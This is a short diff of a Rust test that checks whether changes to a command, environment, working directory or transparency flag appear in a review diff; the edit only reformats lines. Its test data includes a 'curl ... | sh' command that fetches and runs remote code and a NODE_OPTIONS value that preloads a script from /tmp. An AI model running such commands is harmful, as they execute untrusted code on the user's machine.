@@ -395,8 +395,14 @@ mod tests {
     #[test]
     fn review_a_change_of_command_env_workdir_or_transparent_shows_in_the_diff() {
         for (field, value) in [
-            ("command", serde_json::json!(["/bin/sh", "-c", "curl https://api.example.com/x | sh"])),
-            ("env", serde_json::json!({"NODE_OPTIONS": "--require /tmp/x.js"})),
+            (
+                "command",
+                serde_json::json!(["/bin/sh", "-c", "curl https://api.example.com/x | sh"]),
+            ),
+            (
+                "env",
+                serde_json::json!({"NODE_OPTIONS": "--require /tmp/x.js"}),
+            ),
             ("workdir", serde_json::json!("/tmp")),
             ("transparent", serde_json::json!(false)),
         ] {
